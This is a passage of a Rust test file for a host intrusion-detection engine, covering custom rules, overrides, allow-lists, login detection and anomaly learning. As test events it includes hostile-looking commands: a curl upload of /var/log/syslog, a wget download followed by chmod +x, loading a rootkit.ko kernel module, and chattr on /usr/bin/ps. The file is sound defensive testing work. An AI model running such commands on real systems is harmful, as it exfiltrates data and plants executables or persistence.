            {"field": "CommandLine", "contains": needle, "nocase": true}
        ]}
    })
}

fn custom(list: &[serde_json::Value]) -> CustomRules {
    let (rules, errors) = CustomRules::parse(list);
    assert_eq!(errors, Vec::<String>::new());
    rules
}

#[test]
fn custom_rules_alert_like_built_in_ones() {
    let mut d = Detector::new();
    d.set_custom(&custom(&[custom_rule(
        "vendor-upload",
        "upload.vendor.example",
    )]));
    let t0 = Instant::now();
    let hit = exec(
        "/usr/bin/curl",
        "curl -T /var/log/syslog https://UPLOAD.vendor.example/in",
    );
    let f = run(&mut d, &hit, t0);
    // The built-in `data-egress` sees the upload too (docs/detection.md says so).
    let a = raised(&f);
    assert_eq!(
        a.iter().map(|a| a.rule_id.as_str()).collect::<Vec<_>>(),
        ["data-egress", "vendor-upload"],
        "{f:?}"
    );
    let (Finding::Raised(rule, _) | Finding::Suppressed(rule)) = f[1];
    assert!(rule.index() >= Rule::count());
    assert_eq!(d.rule_id(rule), "vendor-upload");
    let a = a[1];
    assert_eq!(a.rule_id, "vendor-upload");
    assert_eq!(a.title.as_deref(), Some("Vendor tool run"));
    assert_eq!(a.severity, BaselineSeverity::Warning);
    assert_eq!(a.techniques, ["T1059"]);
    assert_eq!(a.remediation, "Check who ran it.");
    assert_eq!(a.process_id, Some(4242));
    assert_eq!(a.extra_details["EventKind"], "ProcessCreate");
    assert!(a.description.starts_with("Vendor tool run: curl -T"));
    // Suppressed per subject like a built-in rule.
    assert_eq!(run(&mut d, &hit, t0)[1], Finding::Suppressed(rule));
    // Near misses: another program with the text, curl without it.
    let wget = exec("/usr/bin/wget", "wget https://upload.vendor.example/in");
    assert_eq!(run(&mut d, &wget, t0), vec![]);
    let other = exec("/usr/bin/curl", "curl https://download.vendor.example/x");
    assert_eq!(run(&mut d, &other, t0), vec![]);
    // Built-in rules still fire beside them.
    assert_eq!(
        raised(&run(&mut d, &process("/tmp/x", None), t0))[0].rule_id,
        "exec-from-temp-dir"
    );
}

#[test]
fn custom_rules_are_replaced_and_removed() {
    let mut d = Detector::new();
    let t0 = Instant::now();
    let hit = exec("/usr/bin/curl", "curl https://a.example/");
    let a = custom(&[custom_rule("rule-a", "a.example")]);
    d.set_custom(&a);
    assert_eq!(raised(&run(&mut d, &hit, t0)).len(), 1);
    // The same set again (another key changed) keeps the suppression.
    d.set_custom(&a.clone());
    assert!(matches!(
        run(&mut d, &hit, t0)[..],
        [Finding::Suppressed(_)]
    ));
    // A new set: the old rule is gone, the new one starts afresh.
    d.set_custom(&custom(&[
        custom_rule("rule-b", "b.example"),
        custom_rule("rule-a", "a.example"),
    ]));
    let f = run(&mut d, &hit, t0);
    assert_eq!(raised(&f)[0].rule_id, "rule-a");
    d.set_custom(&CustomRules::default());
    assert_eq!(run(&mut d, &hit, t0 + Duration::from_secs(3600)), vec![]);
}

#[test]
fn a_custom_threshold_rule_correlates() {
    let rule = serde_json::json!({
        "id": "vendor-login-failures",
        "title": "Vendor account failing",
        "severity": "Important",
        "description": "d",
        "remediation": "r",
        "kind": "Login",
        "match": {"all": [
            {"field": "UserName", "equals": "vendor"},
            {"field": "Result", "equals": "Fail"}
        ]},
        "threshold": {"count": 2, "within_secs": 60, "key": "UserName"}
    });
    let mut d = Detector::new();
    d.set_custom(&custom(&[rule]));
    let t0 = Instant::now();
    let fail = |u: &str| login("sshd", u, LoginResult::Fail);
    assert_eq!(run(&mut d, &fail("vendor"), t0), vec![]);
    assert_eq!(run(&mut d, &fail("alice"), t0), vec![]);
    let f = run(&mut d, &fail("vendor"), t0 + Duration::from_secs(59));
    let a = raised(&f);
    assert_eq!(a.len(), 1, "{f:?}");
    assert_eq!(a[0].rule_id, "vendor-login-failures");
    assert_eq!(a[0].event_count, 2);
}

#[test]
fn bad_custom_rules_are_rejected_alone_with_their_id_and_reason() {
    let mut code = custom_rule("my-code", "x");
    code["code"] = true.into();
    let mut bad_field = custom_rule("bad-field", "x");
    bad_field["match"] = serde_json::json!({"field": "Nope", "equals": "x"});
    let (rules, errors) = CustomRules::parse(&[
        custom_rule("good-one", "x"),
        custom_rule("history-cleared", "x"),
        bad_field,
        code,
        serde_json::json!(42),
        custom_rule("good-one", "y"),
        custom_rule("good-two", "y"),
    ]);
    assert_eq!(rules.ids().collect::<Vec<_>>(), ["good-one", "good-two"]);
    assert_eq!(rules.source().len(), 2);
    assert_eq!(errors.len(), 5, "{errors:?}");
    assert!(
        errors[0].starts_with("rule \"history-cleared\": a built-in"),
        "{}",
        errors[0]
    );
    assert!(
        errors[1].starts_with("rule \"bad-field\": ProcessCreate has no field Nope"),
        "{}",
        errors[1]
    );
    assert!(errors[2].starts_with("rule \"my-code\": "), "{}", errors[2]);
    assert!(errors[3].starts_with("rule #5: "), "{}", errors[3]);
    assert!(
        errors[4].starts_with("rule \"good-one\": an earlier"),
        "{}",
        errors[4]
    );
    // At most MAX_CUSTOM_RULES.
    let many: Vec<_> = (0..MAX_CUSTOM_RULES + 2)
        .map(|i| custom_rule(&format!("r{i}"), "x"))
        .collect();
    let (rules, errors) = CustomRules::parse(&many);
    assert_eq!(rules.ids().count(), MAX_CUSTOM_RULES);
    assert_eq!(errors.len(), 2);
    assert!(
        errors[0].contains("at most 64 custom rules"),
        "{}",
        errors[0]
    );
    // None: no catalog, nothing for the detector to try.
    let (rules, errors) = CustomRules::parse(&[]);
    assert!(rules.catalog().is_none() && errors.is_empty());
}

/// The worked example of docs/detection.md ("Custom rules and overrides from the twin") parses
/// and does what the page says.
#[test]
fn the_documented_custom_rule_example_works() {
    let doc = include_str!("../../docs/detection.md");
    let section = &doc[doc.find("### `detectionCustomRules`").expect("the section")..];
    let start = section.find("```json\n").expect("the example") + "```json\n".len();
    let text = &section[start..start + section[start..].find("```").unwrap()];
    let object: serde_json::Value = serde_json::from_str(&format!("{{{text}}}")).unwrap();
    let list =
        object["ms_iotn:urn_azureiot_Security_SecurityAgentConfiguration"]["detectionCustomRules"]
            ["value"]
            .as_array()
            .unwrap()
            .clone();
    let mut d = Detector::new();
    d.set_custom(&custom(&list));
    let now = Instant::now();
    let upload = "curl -T /var/log/syslog https://upload.vendor.example/in";
    let f = run(&mut d, &exec("/usr/bin/curl", upload), now);
    assert!(
        raised(&f).iter().any(|a| a.rule_id == "vendor-upload"),
        "{f:?}"
    );
    for (exe, line) in [
        ("/usr/bin/curl", "curl https://upload.vendor.example/"),
        ("/usr/bin/wget", "wget https://upload.vendor.example/in"),
    ] {
        assert_eq!(run(&mut d, &exec(exe, line), now), vec![], "{line}");
    }
}

fn overrides(list: &[(Rule, RuleOverride)]) -> BTreeMap<Rule, RuleOverride> {
    list.iter().copied().collect()
}

#[test]
fn overrides_change_severity_threshold_and_window() {
    let sudo_failures = Rule::from_id("sudo-failures").unwrap();
    let mut d = Detector::new();
    d.set_overrides(&overrides(&[
        (
            sudo_failures,
            RuleOverride {
                severity: Some(BaselineSeverity::Critical),
                threshold: Some(5),
                window: Some(Duration::from_secs(60)),
            },
        ),
        (
            Rule::ExecFromTempDir,
            RuleOverride {
                severity: Some(BaselineSeverity::Informational),
                ..Default::default()
            },
        ),
    ]));
    let t0 = Instant::now();
    let sudo = || login("sudo", "bob", LoginResult::Fail);
    // Three (the rule's own count) no longer alert; the fourth falls outside the new window.
    for s in [0, 1, 2] {
        assert_eq!(run(&mut d, &sudo(), t0 + Duration::from_secs(s)), vec![]);
    }
    assert_eq!(run(&mut d, &sudo(), t0 + Duration::from_secs(61)), vec![]);
    for s in [62, 63, 64] {
        assert_eq!(run(&mut d, &sudo(), t0 + Duration::from_secs(s)), vec![]);
    }
    let f = run(&mut d, &sudo(), t0 + Duration::from_secs(65));
    let a = raised(&f);
    assert_eq!(a.len(), 1, "{f:?}");
    assert_eq!(a[0].rule_id, "sudo-failures");
    assert_eq!(a[0].event_count, 5);
    assert_eq!(a[0].severity, BaselineSeverity::Critical);
    // A code rule's severity.
    let f = run(&mut d, &process("/tmp/x", None), t0);
    assert_eq!(raised(&f)[0].severity, BaselineSeverity::Informational);
    // Overrides removed: the rules' own settings again.
    d.set_overrides(&BTreeMap::new());
    let f = run(&mut d, &process("/tmp/y", None), t0);
    assert_eq!(raised(&f)[0].severity, Rule::ExecFromTempDir.severity());
    let carol = || login("sudo", "carol", LoginResult::Fail);
    let t1 = t0 + Duration::from_secs(1000);
    assert_eq!(run(&mut d, &carol(), t1), vec![]);
    assert_eq!(run(&mut d, &carol(), t1), vec![]);
    assert_eq!(raised(&run(&mut d, &carol(), t1)).len(), 1);
}

#[test]
fn overrides_tune_brute_force_and_sequence_windows() {
    let mut d = Detector::new();
    let download_then_chmod = Rule::from_id("download-then-chmod").unwrap();
    d.set_overrides(&overrides(&[
        (
            Rule::LoginBruteForce,
            RuleOverride {
                threshold: Some(3),
                window: Some(Duration::from_secs(30)),
                ..Default::default()
            },
        ),
        (
            download_then_chmod,
            RuleOverride {
                window: Some(Duration::from_secs(10)),
                ..Default::default()
            },
        ),
    ]));
    let t0 = Instant::now();
    let fail = || failed_login("sshd", Some("198.51.100.9"), "root");
    assert_eq!(run(&mut d, &fail(), t0), vec![]);
    assert_eq!(run(&mut d, &fail(), t0), vec![]);
    // Outside the 30 s window: the first two are forgotten.
    assert_eq!(run(&mut d, &fail(), t0 + Duration::from_secs(31)), vec![]);
    assert_eq!(run(&mut d, &fail(), t0 + Duration::from_secs(32)), vec![]);
    let f = run(&mut d, &fail(), t0 + Duration::from_secs(33));
    let a = raised(&f);
    assert_eq!(a.len(), 1, "{f:?}");
    assert_eq!(a[0].event_count, 3);
    assert!(
        a[0].description.ends_with("within 30 seconds"),
        "{}",
        a[0].description
    );
    // The download then chmod 20 s later: past the 10 s window (the rule's own is 120 s).
    let mut get = exec("/usr/bin/wget", "wget http://198.51.100.7/a -O /home/a/a");
    let mut chmod = exec("/usr/bin/chmod", "chmod +x /home/a/a");
    for e in [&mut get, &mut chmod] {
        if let Payload::ProcessCreate(v) = &mut e.payload {
            v[0].parent_process_id = 700;
        }
    }
    assert_eq!(run(&mut d, &get, t0), vec![]);
    assert_eq!(run(&mut d, &chmod, t0 + Duration::from_secs(20)), vec![]);
    assert_eq!(run(&mut d, &get, t0 + Duration::from_secs(30)), vec![]);
    let f = run(&mut d, &chmod, t0 + Duration::from_secs(39));
    assert_eq!(raised(&f)[0].rule_id, "download-then-chmod");
}

#[test]
fn what_an_override_may_set() {
    assert_eq!(Rule::LoginBruteForce.tunable(), (true, true));
    assert_eq!(
        Rule::from_id("sudo-failures").unwrap().tunable(),
        (true, true)
    );
    assert_eq!(
        Rule::from_id("download-then-chmod").unwrap().tunable(),
        (false, true)
    );
    assert_eq!(Rule::ExecFromTempDir.tunable(), (false, false));
    assert_eq!(
        Rule::from_id("history-cleared").unwrap().tunable(),
        (false, false)
    );
}

/// The overrides example of docs/detection.md does what the page says.
#[test]
fn the_documented_override_example_works() {
    let doc = include_str!("../../docs/detection.md");
    let section = &doc[doc
        .find("### `detectionRuleOverrides`")
        .expect("the section")..];
    let start = section.find("```json\n").expect("the example") + "```json\n".len();
    let text = &section[start..start + section[start..].find("```").unwrap()];
    let object: serde_json::Value = serde_json::from_str(&format!("{{{text}}}")).unwrap();
    let desired = serde_json::json!({ "detectionRuleOverrides": object["detectionRuleOverrides"] });
    let (config, rejected) = crate::config::from_desired(&desired);
    assert!(rejected.is_empty(), "{rejected:?}");
    let mut d = Detector::new();
    d.set_overrides(&config.detection_rule_overrides);
    let t0 = Instant::now();
    let fail = || failed_login("sshd", Some("198.51.100.9"), "root");
    for s in 0..4 {
        assert_eq!(
            run(&mut d, &fail(), t0 + Duration::from_secs(s * 100)),
            vec![]
        );
    }
    let f = run(&mut d, &fail(), t0 + Duration::from_secs(590));
    let a = raised(&f);
    assert_eq!(a.len(), 1, "{f:?}");
    assert_eq!(a[0].event_count, 5);
    assert_eq!(a[0].severity, BaselineSeverity::Critical);
    assert!(
        a[0].description.ends_with("within 10 minutes"),
        "{}",
        a[0].description
    );
}

fn connection(direction: Direction, to: &str, port: u16) -> Event {
    Event::new(Payload::ConnectionCreate(vec![ConnectionCreate {
        remote_address: to.parse().unwrap(),
        remote_port: port,
        local_address: None,
        local_port: None,
        direction,
        protocol: "TCP".into(),
        process_id: 99,
        user_id: Some("1000".into()),
        executable: "/usr/bin/curl".into(),
        command_line: Some("curl https://example".into()),
        extra_details: Default::default(),
    }]))
}

fn login_from(user: &str, from: Option<&str>, result: LoginResult) -> Event {
    let mut e = failed_login("sshd", from, user);
    if let Payload::Login(v) = &mut e.payload {
        v[0].result = result;
    }
    e
}

fn allow_lists() -> AllowLists {
    AllowLists {
        processes: vec!["/usr/sbin/".into(), "/opt/app/agent".into()],
        destinations: ["10.0.0.0/8", "203.0.113.0/24:8883", "[2001:db8::/32]:443"]
            .iter()
            .map(|d| AllowedDestination::parse(d).unwrap())
            .collect(),
        users: vec!["alice".into()],
        login_sources: vec![parse_cidr("10.0.0.0/8").unwrap()],
    }
}

/// The ids of the rules `d` raises (or suppresses) on the event.
fn fired_with(d: &mut Detector, e: &Event) -> Vec<&'static str> {
    run(d, e, Instant::now())
        .iter()
        .map(|f| match f {
            Finding::Raised(rule, _) | Finding::Suppressed(rule) => rule.id(),
        })
        .collect()
}

#[test]
fn allow_lists_alert_on_what_they_do_not_list() {
    let mut d = Detector::new();
    d.set_allow_lists(&allow_lists());
    // Programs: a directory entry allows what is under it, a file entry only itself.
    assert_eq!(
        fired_with(&mut d, &process("/usr/bin/curl", None)),
        ["process-not-allowed"]
    );
    assert_eq!(
        fired_with(&mut d, &process("/opt/app/agent2", None)),
        ["process-not-allowed"]
    );
    assert!(fired_with(&mut d, &process("/usr/sbin/sshd", None)).is_empty());
    assert!(fired_with(&mut d, &process("/usr/sbin/sub/dir/tool", None)).is_empty());
    assert!(fired_with(&mut d, &process("/opt/app/agent", None)).is_empty());
    // A process known by its kernel name only (gone before its path was read) is not judged.
    assert!(fired_with(&mut d, &process("kworker-ish", None)).is_empty());
    let f = run(
        &mut d,
        &process("/usr/local/bin/miner", Some(("c0ffee", "web"))),
        Instant::now(),
    );
    let a = raised(&f);
    assert_eq!(a.len(), 1);
    assert_eq!(a[0].executable.as_deref(), Some("/usr/local/bin/miner"));
    assert_eq!(a[0].container_id.as_deref(), Some("c0ffee"));

    // Outbound destinations: network, network with a port; loopback always; inbound never.
    use Direction::{In, Out};
    let bad = ["connection-not-allowed"];
    assert_eq!(
        fired_with(&mut d, &connection(Out, "198.51.100.7", 443)),
        bad
    );
    assert_eq!(
        fired_with(&mut d, &connection(Out, "203.0.113.5", 443)),
        bad
    );
    assert_eq!(fired_with(&mut d, &connection(Out, "2001:db8::1", 80)), bad);
    for (to, port) in [
        ("10.9.8.7", 22),
        ("203.0.113.5", 8883),
        ("2001:db8::1", 443),
        ("127.0.0.1", 9000),
        ("::1", 9000),
        ("::ffff:127.0.0.1", 9000),
    ] {
        assert!(
            fired_with(&mut d, &connection(Out, to, port)).is_empty(),
            "{to} port {port}"
        );
    }
    assert!(fired_with(&mut d, &connection(In, "198.51.100.7", 22)).is_empty());
    let f = run(&mut d, &connection(Out, "192.0.2.1", 4444), Instant::now());
    let a = raised(&f);
    assert_eq!(a[0].remote_address, Some("192.0.2.1".parse().unwrap()));
    assert_eq!(a[0].extra_details["RemotePort"], "4444");

    // Logins: successful ones by a user not listed, or from a network not listed.
    use LoginResult::{Fail, Success};
    let bad = ["login-not-allowed"];
    assert_eq!(
        fired_with(&mut d, &login_from("bob", Some("10.1.1.1"), Success)),
        bad
    );
    assert_eq!(
        fired_with(&mut d, &login_from("alice", Some("192.0.2.9"), Success)),
        bad
    );
    assert!(fired_with(&mut d, &login_from("alice", Some("10.1.1.1"), Success)).is_empty());
    // At the console (no address) only the user list applies; failures are other rules' job.
    assert!(fired_with(&mut d, &login_from("alice", None, Success)).is_empty());
    assert!(fired_with(&mut d, &login_from("mallory", Some("192.0.2.9"), Fail)).is_empty());
}

#[test]
fn empty_or_disabled_allow_lists_raise_nothing() {
    let events = [
        process("/usr/bin/curl", None),
        connection(Direction::Out, "198.51.100.7", 443),
        login_from("bob", Some("192.0.2.9"), LoginResult::Success),
    ];
    // Off by default, and when the lists are emptied again.
    let mut d = Detector::new();
    for e in &events {
        assert!(fired_with(&mut d, e).is_empty());
    }
    d.set_allow_lists(&allow_lists());
    assert_eq!(fired_with(&mut d, &events[0]), ["process-not-allowed"]);
    d.set_allow_lists(&AllowLists::default());
    for e in &events {
        assert!(fired_with(&mut d, e).is_empty());
    }
    // One list set leaves the others off.
    d.set_allow_lists(&AllowLists {
        users: vec!["alice".into()],
        ..Default::default()
    });
    assert!(fired_with(&mut d, &events[0]).is_empty());
    assert!(fired_with(&mut d, &events[1]).is_empty());
    assert_eq!(fired_with(&mut d, &events[2]), ["login-not-allowed"]);
    // Disabled rules stay silent with their lists set.
    d.set_allow_lists(&allow_lists());
    d.set_disabled(&[
        Rule::ProcessNotAllowed,
        Rule::ConnectionNotAllowed,
        Rule::LoginNotAllowed,
    ]);
    for e in &events {
        assert!(fired_with(&mut d, e).is_empty());
    }
}

#[test]
fn allowed_destinations_parse_as_written_in_the_twin() {
    let p = |t: &str| AllowedDestination::parse(t);
    let d = p("10.0.0.0/8:443").unwrap();
    assert_eq!(
        (d.net, d.port),
        (("10.0.0.0".parse().unwrap(), 8), Some(443))
    );
    assert_eq!(p("10.1.2.3").unwrap().net.1, 32);
    assert_eq!(p("fd00::/8").unwrap().port, None);
    assert_eq!(p("[fd00::/8]:8883").unwrap().port, Some(8883));
    assert_eq!(p("[::1]").unwrap().net.1, 128);
    for bad in [
        "",
        "10.0.0.0/33",
        "10.0.0.1:99999",
        "[fd00::]443",
        "host.example:443",
        "[fd00::",
    ] {
        assert_eq!(p(bad), None, "{bad:?}");
    }
}

#[test]
fn the_documented_allow_list_examples_work() {
    let doc = include_str!("../../docs/detection.md");
    let section = &doc[doc.find("### Allow-lists").expect("the section")..];
    let mut blocks = section
        .split("```json\n")
        .skip(1)
        .map(|b| &b[..b.find("```").unwrap()]);
    let lists: serde_json::Value =
        serde_json::from_str(&format!("{{{}}}", blocks.next().unwrap())).unwrap();
    let (config, rejected) = crate::config::from_desired(&lists);
    assert_eq!(rejected, []);
    let mut d = Detector::new();
    d.set_allow_lists(&config.detection_allow_lists);
    assert!(fired_with(&mut d, &process("/opt/myapp/bin/app", None)).is_empty());
    assert_eq!(
        fired_with(&mut d, &process("/tmp/.x/kworker", None)),
        ["exec-from-temp-dir", "process-not-allowed"]
    );
    assert!(fired_with(&mut d, &connection(Direction::Out, "203.0.113.9", 8883)).is_empty());
    assert_eq!(
        fired_with(&mut d, &connection(Direction::Out, "203.0.113.9", 443)),
        ["connection-not-allowed"]
    );
    assert_eq!(
        fired_with(
            &mut d,
            &login_from("admin", Some("10.21.0.1"), LoginResult::Success)
        ),
        ["login-not-allowed"]
    );

    // The connection threshold as a custom rule.
    let rules: serde_json::Value =
        serde_json::from_str(&format!("{{{}}}", blocks.next().unwrap())).unwrap();
    let list = rules["detectionCustomRules"]["value"].as_array().unwrap();
    let mut d = Detector::new();
    d.set_custom(&custom(list));
    let t0 = Instant::now();
    for i in 0..199u64 {
        let e = connection(Direction::Out, "198.51.100.7", 443);
        assert_eq!(run(&mut d, &e, t0 + Duration::from_millis(i)), vec![]);
    }
    // Inbound ones do not count; the 200th outbound within the minute alerts.
    assert_eq!(
        run(&mut d, &connection(Direction::In, "198.51.100.7", 22), t0),
        vec![]
    );
    let f = run(&mut d, &connection(Direction::Out, "198.51.100.8", 443), t0);
    let a = raised(&f);
    assert_eq!(a.len(), 1, "{f:?}");
    assert_eq!(a[0].rule_id, "many-outbound-connections");
    assert_eq!(a[0].event_count, 200);
}

#[test]
fn local_logins_alert_and_remote_ones_do_not() {
    use LoginResult::{Fail, Success};
    let local = |op: &str, result: LoginResult, host: Option<&str>| {
        let mut e = login(op, "root", result);
        if let (Payload::Login(v), Some(h)) = (&mut e.payload, host) {
            v[0].extra_details.insert("Host".into(), h.into());
        }
        e
    };
    assert_eq!(
        fired(&local("login", Success, None)),
        ["local-login-succeeded"]
    );
    assert_eq!(
        fired(&local("wtmp:login", Success, None)),
        ["local-login-succeeded"]
    );
    assert_eq!(
        fired(&local("wtmp:login", Success, Some(":0"))),
        ["local-login-succeeded"]
    );
    assert_eq!(fired(&local("login", Fail, None)), ["local-login-failed"]);
    assert_eq!(
        fired(&local("btmp:failed", Fail, None)),
        ["local-login-failed"]
    );
    // Near misses: a remote login (an address, or a host name wtmp kept), sshd, su and sudo.
    assert!(fired(&local("wtmp:login", Success, Some("jump.example"))).is_empty());
    assert!(fired(&local("btmp:failed", Fail, Some("jump.example"))).is_empty());
    assert!(fired(&login_from("root", Some("198.51.100.7"), Success)).is_empty());
    let mut remote = local("login", Success, None);
    if let Payload::Login(v) = &mut remote.payload {
        v[0].remote_address = Some("192.0.2.1".parse().unwrap());
    }
    assert!(fired(&remote).is_empty());
    for op in ["sshd", "su", "sudo"] {
        assert!(fired(&local(op, Success, None)).is_empty(), "{op}");
    }
}

/// A detector with a behaviour baseline whose learning is over (it ended at the Unix epoch) and
/// that learned nothing.
fn watching() -> Detector {
    let mut d = Detector::new();
    d.set_behaviour(Behaviour::new(Duration::from_secs(1), 0));
    d
}

/// The `behaviour-anomaly` findings: (raised, suppressed).
fn anomalies(findings: &[Finding]) -> (usize, usize) {
    let of_rule = |f: &&Finding| match f {
        Finding::Raised(rule, _) | Finding::Suppressed(rule) => *rule == Rule::BehaviourAnomaly,
    };
    let found = findings.iter().filter(of_rule);
    let up = found
        .clone()
        .filter(|f| matches!(f, Finding::Raised(..)))
        .count();
    (up, found.count() - up)
}

fn learned(d: &mut Detector) -> usize {
    d.behaviour_mut().map_or(0, |b| b.len())
}

/// Issue 17: an anomaly whose alert the rate limit dropped is not learned, so it is raised when
/// it recurs after the budget refills.
#[test]
fn anomalies_dropped_by_the_budget_are_raised_when_it_refills() {
    let mut d = watching();
    let t0 = Instant::now();
    let budget = MAX_ALERTS_PER_MINUTE as usize;
    let n = budget + 5;
    let program = |i: usize| process(&format!("/opt/new/p{i}"), None);
    for i in 0..n {
        let at = t0 + Duration::from_millis(i as u64);
        let expected = if i < budget { (1, 0) } else { (0, 1) };
        assert_eq!(anomalies(&run(&mut d, &program(i), at)), expected, "p{i}");
    }
    // Only what was raised was learned; within the minute a dropped one is dropped again.
    assert_eq!(learned(&mut d), budget);
    let late = t0 + Duration::from_secs(59);
    assert_eq!(anomalies(&run(&mut d, &program(n - 1), late)), (0, 1));
    assert_eq!(learned(&mut d), budget);
    // The next minute: each dropped one is raised once, then known; the others stay known.
    let t1 = t0 + Duration::from_secs(60);
    for i in budget..n {
        assert_eq!(anomalies(&run(&mut d, &program(i), t1)), (1, 0), "p{i}");
    }
    for i in 0..n {
        let at = t1 + Duration::from_secs(1);
        assert_eq!(anomalies(&run(&mut d, &program(i), at)), (0, 0), "p{i}");
    }
    assert_eq!(learned(&mut d), n);
}

/// A repeat of an anomaly alerted within the suppression window is suppressed and learned
/// (even with the budget spent), so it is not raised again once the window is over.
#[test]
fn a_repeated_anomaly_is_learned_not_raised_again() {
    let mut d = watching();
    let t0 = Instant::now();
    let tool = process("/opt/new/tool", None);
    // One event naming a new program twice: one alert, nothing suppressed.
    let mut twice = process("/opt/new/tool", None);
    if let Payload::ProcessCreate(v) = &mut twice.payload {
        let mut second = v[0].clone();
        second.process_id += 1;
        v.push(second);
    }
    assert_eq!(anomalies(&run(&mut d, &twice, t0)), (1, 0));
    assert_eq!(anomalies(&run(&mut d, &tool, t0)), (0, 0), "learned");
    // Spend the rest of the budget.
    for i in 1..MAX_ALERTS_PER_MINUTE {
        let e = process(&format!("/opt/new/p{i}"), None);
        assert_eq!(anomalies(&run(&mut d, &e, t0)), (1, 0), "p{i}");
    }
    // The baseline forgets the tool (loaded again) while its alert is still suppressing: the
    // repeat is suppressed as a repeat, not dropped by the spent budget, and so learned…
    d.set_behaviour(Behaviour::new(Duration::from_secs(1), 0));
    let soon = t0 + Duration::from_secs(1);
    assert_eq!(anomalies(&run(&mut d, &tool, soon)), (0, 1));
    assert_eq!(learned(&mut d), 1);
    // …and not raised (nor suppressed) again after the window and with a fresh budget.
    let after = t0 + SUPPRESSION + Duration::from_secs(1);
    assert_eq!(anomalies(&run(&mut d, &tool, after)), (0, 0));
}

/// What the real-activity test (tests/detection_rules.rs) found: tests of a program's
/// arguments matched its own path (argv[0]), and an auth-log line's `Host` (the machine that
/// logged it) hid every console login.
#[test]
fn arguments_exclude_argv0_and_console_logins_in_the_auth_log_are_local() {
    // The kernel autoloads modules through /sbin/modprobe with a module name: not a file.
    assert_eq!(
        fired(&exec("/usr/bin/kmod", "/sbin/modprobe -q -- nf_conntrack")),
        Vec::<&str>::new()
    );
    assert_eq!(
        fired(&exec("/usr/bin/kmod", "/sbin/modprobe /root/rootkit.ko")),
        ["kernel-module-loaded"]
    );
    assert_eq!(
        fired(&exec("/usr/bin/kmod", "modprobe ./rootkit.ko")),
        ["kernel-module-loaded"]
    );
    // chattr run by its full path on an ordinary file; and on a persistence file.
    assert_eq!(
        fired(&exec("/usr/bin/chattr", "/usr/bin/chattr +i /srv/data")),
        Vec::<&str>::new()
    );
    assert_eq!(
        fired(&exec("/usr/bin/chattr", "/usr/bin/chattr +i /usr/bin/ps")),
        ["bot-like"]
    );
    // login(1) on the console, as the auth log records it (Host: the machine's name), and the
    // same user from a remote host.
    let console = |result: LoginResult, from: Option<&str>| {
        let mut e = login("login", "alice", result);
        if let Payload::Login(v) = &mut e.payload {
            v[0].executable = "/bin/login".into();
            v[0].extra_details.insert("Host".into(), "edge".into());
            v[0].extra_details
                .insert("Source".into(), "auth.log".into());
            if let Some(h) = from {
                v[0].extra_details.insert("RemoteHost".into(), h.into());
            }
        }
        e
    };
    assert_eq!(
        fired(&console(LoginResult::Success, None)),
        ["local-login-succeeded"]
    );
    assert_eq!(
        fired(&console(LoginResult::Fail, None)),
        ["local-login-failed"]
    );
    assert_eq!(
        fired(&console(LoginResult::Success, Some("jumphost"))),
        Vec::<&str>::new()
    );
    // A wtmp record keeps its meaning: Host is where the user came from.
    let mut wtmp = login("wtmp:login", "alice", LoginResult::Success);
    if let Payload::Login(v) = &mut wtmp.payload {
        v[0].extra_details.insert("Host".into(), "10.0.0.9".into());
    }
    assert_eq!(fired(&wtmp), Vec::<&str>::new());
}
